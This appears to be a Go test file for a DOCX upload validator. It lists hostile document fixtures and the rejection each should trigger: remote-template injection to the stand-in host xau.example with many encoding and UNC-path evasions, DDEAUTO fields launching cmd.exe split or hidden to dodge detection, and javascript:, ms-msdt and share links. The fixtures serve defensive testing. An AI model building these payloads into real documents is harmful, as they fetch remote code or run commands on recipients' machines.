package upload_test

import (
	"fmt"
	"strings"
)

const strictNS = "http://purl.oclc.org/ooxml/officeDocument/relationships"

// related is a document with one relation of its main part, as written.
func related(relation string) []byte {
	return docx(entry{name: "word/_rels/document.xml.rels", text: declared + fmt.Sprintf(rels, relation)})
}

// outside is a relation to something outside of the document.
func outside(sort, target string) func() []byte {
	return always(related(`<Relationship Id="r9" Type="` + sort + `" Target="` + target + `" TargetMode="External"/>`))
}

func bodied(b string) func() []byte { return always(zipped(docxParts(b)...)) }

// fieldRuns is a field whose instruction is cut into these runs.
func fieldRuns(runs ...string) string {
	var b strings.Builder
	b.WriteString(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`)
	for _, r := range runs {
		if strings.HasPrefix(r, "<") {
			b.WriteString(r)
			continue
		}
		b.WriteString(`<w:r><w:instrText xml:space="preserve">` + r + `</w:instrText></w:r>`)
	}
	return b.String() +
		`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
}

const nestedQuote = `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`

// hostileRelations are documents that reach outside by a relation.
func hostileRelations() map[string]bad {
	out := map[string]bad{
		"template, scheme in capitals": {
			"", outside(officeNS+"/attachedTemplate", "HTTP://xau.example/a.dotm"), "remote",
		},
		"template by ftp": {
			"", outside(officeNS+"/attachedTemplate", "ftp://xau.example/a.dotm"), "remote",
		},
		"template, scheme with an escape": {
			"", outside(officeNS+"/attachedTemplate", "%68ttps://xau.example/a.dotm"), "remote",
		},
		"template, slashes with escapes": {"", outside(officeNS+"/attachedTemplate", "%5c%5cxau%5ca.dotm"), "remote"},
		"template, escapes of escapes": {
			"", outside(officeNS+"/attachedTemplate", "%255c%255cxau%255ca.dotm"), "remote",
		},
		"template on a share, turned":       {"", outside(officeNS+"/attachedTemplate", "//xau/c/a.dotm"), "remote"},
		"template on a share, five slashes": {"", outside(officeNS+"/attachedTemplate", "file://///xau/c/a.dotm"), "remote"},
		"template on a share, mixed":        {"", outside(officeNS+"/attachedTemplate", `/\xau\c\a.dotm`), "remote"},
		"template on a share, long form":    {"", outside(officeNS+"/attachedTemplate", `\\?\UNC\xau\c\a.dotm`), "remote"},
		"template on a share by its host":   {"", outside(officeNS+"/attachedTemplate", "file://xau/c/a.dotm"), "remote"},
		"template over a web folder": {
			"", outside(officeNS+"/attachedTemplate", `\\xau@SSL\DavWWWRoot\a.dotm`), "remote",
		},
		"template behind a drive": {"", outside(officeNS+"/attachedTemplate", `C:\..\..\\xau\a.dotm`), "remote"},
		"template that is a page": {"", outside(officeNS+"/attachedTemplate", `C:\a\b.html`), "remote"},
		"template with a space before": {
			"", outside(officeNS+"/attachedTemplate", " https://xau.example/a.dotm"), "remote",
		},
		"template, strict form": {
			"", outside(strictNS+"/attachedTemplate", "https://xau.example/a.dotm"), "remote",
		},
		"template, mode in small letters": {
			"",
			always(related(
				`<Relationship Id="r9" Type="` + officeNS +
					`/attachedTemplate" Target="https://xau.example/a.dotm" TargetMode="external"/>`,
			)),
			"remote",
		},
		"template, mode with a space": {
			"",
			always(related(
				`<Relationship Id="r9" Type="` + officeNS +
					`/attachedTemplate" Target="https://xau.example/a.dotm" TargetMode="External "/>`,
			)),
			"remote",
		},
		"template, no mode": {
			"",
			always(related(
				`<Relationship Id="r9" Type="` + officeNS + `/attachedTemplate" Target="https://xau.example/a.dotm"/>`,
			)),
			"remote",
		},
		"template, mode of another name": {
			"",
			always(related(
				`<Relationship xmlns:x="x" Id="r9" Type="` + officeNS +
					`/attachedTemplate" Target="https://xau.example/a.dotm" x:TargetMode="External"/>`,
			)),
			"remote",
		},
		"template, target twice": {
			"",
			always(related(
				`<Relationship Id="r9" Type="` + officeNS +
					`/attachedTemplate" Target="a.dotm" Target="https://xau.example/a.dotm"/>`,
			)),
			"broken",
		},
		"template, base elsewhere": {
			"",
			always(related(
				`<Relationship xml:base="https://xau.example/" Id="r9" Type="` + officeNS + `/attachedTemplate" Target="a.dotm"/>`,
			)),
			"remote",
		},
		"template, letters as numbers": {
			"", outside(officeNS+"/attachedTemplate", "&#104;ttps&#58;//xau.example/a.dotm"), "remote",
		},
		"relation within a relation": {
			"",
			always(related(
				`<Relationship Id="r8" Type="` + officeNS + `/styles" Target="s.xml"><Relationship Id="r9" Type="` + officeNS +
					`/attachedTemplate" Target="http://x/"/></Relationship>`,
			)),
			"broken",
		},
		"relation of another element":   {"", always(related(`<a/>`)), "broken"},
		"picture elsewhere":             {"", outside(officeNS+"/image", "https://xau.example/a.png"), "remote"},
		"picture by http":               {"", outside(officeNS+"/image", "http://xau.example/a.png"), "remote"},
		"program as picture on a drive": {"", outside(officeNS+"/image", `C:\Windows\a.exe`), "remote"},
		"film elsewhere":                {"", outside(officeNS+"/video", "https://xau.example/a.mp4"), "remote"},
		"workbook elsewhere": {
			"a.docx", outside(officeNS+"/externalLinkPath", "https://xau.example/a.xlsx"), "remote",
		},
		"workbook on a share":        {"", outside(officeNS+"/externalLinkPath", `file:///\\xau\c\a.xlsx`), "remote"},
		"program as workbook":        {"", outside(officeNS+"/externalLinkPath", `C:\a.exe`), "remote"},
		"chart linked to a workbook": {"", outside(officeNS+"/oleObject", `file:///C:\a.xlsx`), "remote"},
	}
	for sort, key := range map[string]string{
		"aFChunk": "relation", "subDocument": "relation", "frame": "relation", "control": "relation", "oleObject": "relation", "mailMergeSource": "relation",
		"mailMergeHeaderSource": "relation", "recipientData": "relation", "connections": "relation", "queryTable": "relation", "xmlMaps": "relation", "transform": "relation",
		"volatileDependencies": "relation", "dialogsheet": "relation", "audio": "relation", "video": "relation", "webextension": "relation", "nobodyKnows": "relation",
	} {
		out["relation inside: "+
			sort] = bad{"", always(related(`<Relationship Id="r9" Type="` + officeNS + "/" + sort + `" Target="a.xml"/>`)), key}
		out["relation outside: "+sort] = bad{"", outside(officeNS+"/"+sort, "https://xau.example/a"), "remote"}
		out["relation outside, strict: "+sort] = bad{"", outside(strictNS+"/"+sort, "https://xau.example/a"), "remote"}
	}
	for _, sort := range []string{
		"2006/relationships/vbaProject", "2006/relationships/ui/extensibility", "2007/relationships/ui/extensibility",
		"2006/relationships/keyMapCustomizations", "2006/relationships/attachedToolbars", "2006/relationships/xlMacrosheet",
		"2011/relationships/webextension", "2020/07/relationships/rdrichvaluewebimage",
		"2006/relationships/activeXControlBinary",
	} {
		out["relation of Microsoft: "+
			sort] = bad{
			"",
			always(related(`<Relationship Id="r9" Type="http://schemas.microsoft.com/office/` + sort + `" Target="a.xml"/>`)),
			"relation",
		}
	}
	for _, to := range []string{
		"http://xau.example/", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "file:///C:/Windows/System32/cmd.exe", "file://xau/c/a.lnk", `\\xau\c\a.exe`, "smb://xau/c", "ms-word:ofe|u|https://xau.example/a.docx",
		"search-ms:query=x&amp;crumb=location:\\\\xau", "ms-msdt:/id PCWDiagnostic", "vbscript:x", "data:text/html,x", "ftp://xau.example/", "https:xau.example", "https:///xau", "https://co-quan.vn@xau.example/",
		"https://co-quan.vn\\@xau.example/", "a.exe", "../a.exe", "//xau/a", "mailto:a@b.vn?attach=C:\\a.txt", "MAILTO:a@b.vn?Attachment=x", "tel:113", "about:blank", "https://xau.example/&#10;javascript:x",
	} {
		out["link: "+to] = bad{"", outside(officeNS+"/hyperlink", to), "link"}
	}
	return out
}

// hostileFields are documents whose fields fetch or start something, and elements that do.
func hostileFields() map[string]bad {
	out := map[string]bad{
		"field in pieces": {
			"", bodied(fieldRuns(" D", "D", "EAU", `TO c:\\windows\\system32\\cmd.exe "/k x"`)), "field",
		},
		"field of plain text":       {"", bodied(fieldRuns(`<w:r><w:t>DDEAUTO</w:t></w:r>`, " cmd x")), "field"},
		"field that another begins": {"", bodied(fieldRuns(nestedQuote, ` cmd "/k x"`)), "field"},
		"field that another ends":   {"", bodied(fieldRuns(" DD", nestedQuote, ` cmd "/k x"`)), "field"},
		"field within a result": {
			"", bodied(strings.Replace(fieldRuns(" PAGE "), "<w:r><w:t>x</w:t></w:r>", fieldRuns(" DDE cmd x"), 1)), "field",
		},
		"field within a condition": {"", bodied(fieldRuns(" IF 1 = 1 ", fieldRuns(" INCLUDETEXT x "), " x")), "field"},
		"field without an end": {
			"",
			bodied(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>`),
			"field",
		},
		"field over two paragraphs": {
			"",
			bodied(
				`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r></w:p><w:p><w:r><w:instrText>AUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
			),
			"field",
		},
		"field that was struck out": {
			"",
			bodied(
				`<w:p><w:del><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>`,
			),
			"field",
		},
		"field under another prefix": {
			"",
			bodied(
				`<w:p><x:fldSimple xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main" x:instr="DDEAUTO cmd"/></w:p>`,
			),
			"field",
		},
		"field without a prefix": {
			"",
			bodied(
				`<w:p><fldSimple xmlns="http://schemas.openxmlformats.org/wordprocessingml/2006/main" instr="DDEAUTO cmd"/></w:p>`,
			),
			"field",
		},
		"field with letters as numbers": {"", bodied(`<w:p><w:fldSimple w:instr="&#68;&#68;EAUTO cmd"/></w:p>`), "field"},
		"field in a cut of its own": {
			"", bodied(fieldRuns("<w:r><w:instrText>DD<![CDATA[EAUTO]]> cmd</w:instrText></w:r>")), "field",
		},
		"field in a comment's pieces": {
			"", bodied(fieldRuns("<w:r><w:instrText>DD<!-- -->EAUTO cmd</w:instrText></w:r>")), "field",
		},
		"field in a header": {
			"",
			always(docx(entry{
				name: "word/header1.xml",
				text: declared + `<w:hdr xmlns:w="w">` + fieldRuns(` INCLUDEPICTURE "http://xau.example/a.png" \d `) + `</w:hdr>`,
			})),
			"field",
		},
		"field in a part of another name": {
			"",
			always(docx(entry{
				name: "word/xyz.xml", text: declared + `<w:ftr xmlns:w="w">` + fieldRuns(" DDE x ") + `</w:ftr>`,
			})),
			"field",
		},
		"link field to a script":      {"", bodied(fieldRuns(` HYPERLINK "javascript:alert(1)" `)), "link"},
		"link field to a file":        {"", bodied(fieldRuns(` HYPERLINK "file:///C:/a.exe" \o "x"`)), "link"},
		"link field to a share":       {"", bodied(fieldRuns(` HYPERLINK \\\\xau\\c\\a.exe`)), "link"},
		"link field after a switch":   {"", bodied(fieldRuns(` HYPERLINK \l "a" "smb://xau/c"`)), "link"},
		"link field in pieces":        {"", bodied(fieldRuns(` HYPER`, `LINK "java`, `script:x"`)), "link"},
		"link field by another field": {"", bodied(fieldRuns(` HYPERLINK "`, nestedQuote, `"`)), "link"},
		"whole file inserted":         {"", bodied(`<w:altChunk r:id="r9"/>`), "relation"},
		"part of another document":    {"", bodied(`<w:subDoc r:id="r9"/>`), "remote"},
		"mail merge": {
			"",
			always(docx(entry{
				name: "word/settings.xml",
				text: declared + `<w:settings xmlns:w="w"><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>`,
			})),
			"remote",
		},
		"page of frames": {
			"",
			always(docx(entry{
				name: "word/webSettings.xml",
				text: declared +
					`<w:webSettings xmlns:w="w"><w:frameset><w:frame><w:sourceFileName r:id="r1"/></w:frame></w:frameset></w:webSettings>`,
			})),
			"remote",
		},
		"linked object": {
			"",
			bodied(`<w:object><o:OLEObject Type="Link" ProgID="Word.Document.8" r:id="r9" UpdateMode="Always"/></w:object>`),
			"remote",
		},
		"old picture elsewhere": {
			"", bodied(`<w:pict><v:shape><v:imagedata src="http://xau.example/a.png"/></v:shape></w:pict>`), "remote",
		},
		"old picture on a share": {
			"", bodied(`<w:pict><v:shape><v:fill src="\\xau\c\a.png"/></v:shape></w:pict>`), "remote",
		},
		"old drawing with a script link": {"", bodied(`<w:pict><v:shape href="javascript:x"/></w:pict>`), "link"},
		"drawing that starts a program": {
			"", bodied(`<w:drawing><a:hlinkClick r:id="" action="ppaction://program"/></w:drawing>`), "macro",
		},
		"drawing with a macro elsewhere": {"", bodied(`<xdr:sp macro="[1]!Chay"/>`), "macro"},
		"old picture of an address": {
			"", bodied(`<v:shape><v:imagedata o:href="https://xau.example/a.png"/></v:shape>`), "remote",
		},
		"form that runs a macro": {"", bodied(`<w:ffData><w:entryMacro w:val="Chay"/></w:ffData>`), "macro"},
		"library of schemas": {
			"", bodied(`<sl:schema sl:manifestLocation="http://xau.example/a.xml"/>`), "remote",
		},
		"data that fetches": {
			"",
			always(docx(entry{
				name: "customXml/item1.xml", text: `<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAA=</DataMashup>`,
			})),
			"remote",
		},
		"instruction to a program": {
			"",
			always(docx(entry{
				name: "word/styles.xml", text: declared + `<?xml-stylesheet href="http://xau.example/a.xsl"?><a/>`,
			})),
			"doctype",
		},
		"attribute twice":     {"", bodied(`<w:fldSimple w:instr="PAGE" w:instr="DDE x"/>`), "broken"},
		"thousand attributes": {"", bodied("<w:p " + manyAttributes(1000) + "/>"), "broken"},
		"span of a million columns": {
			"", bodied(`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr></w:tc></w:tr></w:tbl>`), "broken",
		},
	}
	for _, command := range []string{
		"DDE", "DDEAUTO", "LINK", "INCLUDE", "INCLUDETEXT", "INCLUDEPICTURE", "IMPORT", "DATABASE", "RD", "MACROBUTTON",
		"PRINT", "CONTROL", "HTMLCONTROL", "EMBED", "ddeauto", "dDe", "RTF", "DATA", "NOBODYKNOWS",
	} {
		out["field: "+command] = bad{"", bodied(fieldRuns(" " + command + ` "http://xau.example/a" x `)), "field"}
		out["simple field: "+command] = bad{"", bodied(`<w:p><w:fldSimple w:instr=" ` + command + ` x"/></w:p>`), "field"}
	}
	return out
}

func manyAttributes(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `a%d="" `, i)
	}
	return b.String()
}
